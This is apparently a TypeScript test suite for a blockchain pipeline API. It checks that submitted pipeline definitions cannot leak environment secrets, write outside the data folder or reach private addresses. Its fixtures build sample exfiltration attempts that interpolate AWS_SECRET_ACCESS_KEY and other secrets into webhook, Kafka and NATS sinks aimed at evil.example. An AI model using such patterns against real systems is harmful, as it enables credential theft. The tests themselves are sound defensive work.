import { expect } from 'chai';
import type { LightMyRequestResponse } from 'fastify';
import type { Database } from '../../src/database/database.js';
import { PipelineStore } from '../../src/database/pipelines/pipeline-store.js';
import type { PipelineDefinition } from '../../src/model/pipeline.js';
import { openMigrated } from '../support/migrated-database.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { expectProblem, testApi, type TestApi } from './api-fixture.js';

const base = '/api/v1/pipeline';
const secrets = ['MYSQL_PASSWORD', 'AWS_SECRET_ACCESS_KEY', 'CHAINPARSE_API_TOKEN'];
const monitor = {
  ...{ name: 'transfers', type: 'event_monitor', chain_name: 'ethereum', mode: 'realtime' },
  ...{ contract_address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', abi_path: 'builtin:erc20' },
};
const hook = { type: 'webhook_sink', url: 'https://hook.example/' };
const kafka = { type: 'kafka_producer', bootstrap_servers: 'kafka.example:9092' };

const withSink = (sink: object): { name: string; components: readonly object[] } => ({
  name: 'leak',
  components: [monitor, { name: 'out', ...sink }],
});

/** The ways by which a definition could send a variable away. */
const waysOut = (name: string): readonly (readonly [key: string, sink: object])[] => [
  ['url', { ...hook, url: `https://evil.example/\${${name}}` }],
  ['url', { ...hook, url: `https://evil.example/?a=\${OTHER:-\${${name}}}` }],
  ['headers', { ...hook, headers: { 'X-Note': `\${${name}}` } }],
  ['body', { ...hook, body: { list: [`\${${name}:-}`] } }],
  ['topic', { ...kafka, topic: `\${${name}}` }],
  ['subject', { type: 'nats_sink', servers: 'nats://evil.example', subject: `a.\${${name}}` }],
];

describe('a definition that is sent to the API', () => {
  let database: Database;
  let api: TestApi;
  const opened: TestApi[] = [];
  const open = (env: Readonly<Record<string, string>> = {}): TestApi => {
    const made = testApi(database, env);
    opened.push(made);
    return made;
  };

  before(async () => {
    database = await openMigrated(`sqlite:${temporaryFolder()}/test.db`);
    api = open();
  });
  after(async () => {
    for (const { app } of opened) await app.close();
    await database.close();
  });

  const refused = (answer: LightMyRequestResponse, key: string, text: string): void => {
    expectProblem(answer, 400);
    expect(answer.body).to.contain(key).and.to.contain(text);
  };

  for (const name of secrets) {
    it(`sends ${name} nowhere, by any of the calls that store one`, async () => {
      const older = open({ CHAINPARSE_API_OLDER_CLIENTS: 'on' });
      const named = { ...withSink(hook), name: `kept ${name}` };
      const { pipeline_id: id } = (await api.post(`${base}/config`, named)).json<{ pipeline_id: number }>();
      for (const [key, sink] of waysOut(name)) {
        refused(await api.post(`${base}/config`, withSink(sink)), key, 'must ');
        refused(await api.post(`${base}/${id}`, withSink(sink), 'PUT'), key, 'must ');
        const body = { pipeline_id: id, pipeline_info: JSON.stringify(withSink(sink)) };
        refused(await older.post(`${base}/config`, body), key, 'must ');
      }
    });
  }

  it('names the key and what to do', async () => {
    const answer = await api.post(`${base}/config`, withSink({ ...hook, url: '${HOOK_URL}' }));
    const { detail } = expectProblem(answer, 400);
    expect(detail).to.match(/url: must not read HOOK_URL: .*CHAINPARSE_API_VARIABLES only/);
    expect(answer.body).to.contain('list it there, or import the definition by the command line');
  });

  it('reads the variables that the settings list, in a url and headers, and in no body and no topic', async () => {
    const listing = open({ CHAINPARSE_API_VARIABLES: 'HOOK_URL, HOOK_KEY' });
    const sink = { ...hook, url: '${HOOK_URL}', headers: { Authorization: 'Bearer ${HOOK_KEY}' } };
    expect((await listing.post(`${base}/config`, { ...withSink(sink), name: 'listed' })).statusCode).to.equal(201);
    for (const [key, leak] of waysOut('HOOK_KEY').slice(3))
      refused(await listing.post(`${base}/config`, withSink(leak)), key, 'must have no variable');
  });

  it('writes no file and no SQLite database outside the data folder', async () => {
    const file = { type: 'file_sink', path: '/var/spool/out', format: 'jsonl' };
    refused(await api.post(`${base}/config`, withSink(file)), 'path', 'must be below the data folder');
    const table = { type: 'table_sink', table: 'leak', database: 'sqlite:elsewhere.db' };
    refused(await api.post(`${base}/config`, withSink(table)), 'database', 'must be below the data folder');
    const inside = { ...withSink({ ...table, database: 'sqlite:data/rows.db' }), name: 'rows' };
    expect((await api.post(`${base}/config`, inside)).statusCode).to.equal(201);
  });

  it('reaches private addresses only if the settings list them', async () => {
    const inner = { ...hook, url: 'http://10.0.0.5/', allow_private: true };
    refused(await api.post(`${base}/config`, withSink(inner)), 'url', 'leads to a private address');
    const brokers = { ...kafka, topic: 'a', bootstrap_servers: 'localhost:9092' };
    refused(await api.post(`${base}/config`, withSink(brokers)), 'bootstrap_servers', 'CHAINPARSE_API_PRIVATE_HOSTS');
    const listing = open({ CHAINPARSE_API_PRIVATE_HOSTS: '10.0.0.5,localhost:9092' });
    for (const [name, sink] of Object.entries({ inner, brokers })) {
      const answer = await listing.post(`${base}/config`, { ...withSink(sink), name });
      expect(answer.statusCode, answer.body).to.equal(201);
    }
  });

  it("is the API's until the command line imports it", async () => {
    const store = new PipelineStore(database);
    const id = await store.import({ ...(await store.get(1)), id: null, name: 'moved' });
    expect((await store.get(id)).origin).to.equal('api');
    const sent: PipelineDefinition = { ...(await store.get(id)), origin: 'cli' };
    await store.import(sent, { update: true });
    expect((await store.get(id)).origin).to.equal('cli');
    const older = open({ CHAINPARSE_API_OLDER_CLIENTS: 'on' });
    const info = { pipeline_id: id, pipeline_info: { ...withSink(hook), name: 'moved' } };
    expect((await older.post(`${base}/config`, info)).statusCode).to.equal(200);
    expect((await store.get(id)).origin).to.equal('api');
    await store.import(sent, { update: true });
    expect((await api.post(`${base}/${id}`, { ...withSink(hook), name: 'moved' }, 'PUT')).statusCode).to.equal(200);
    expect((await store.get(id)).origin).to.equal('api');
  });
});
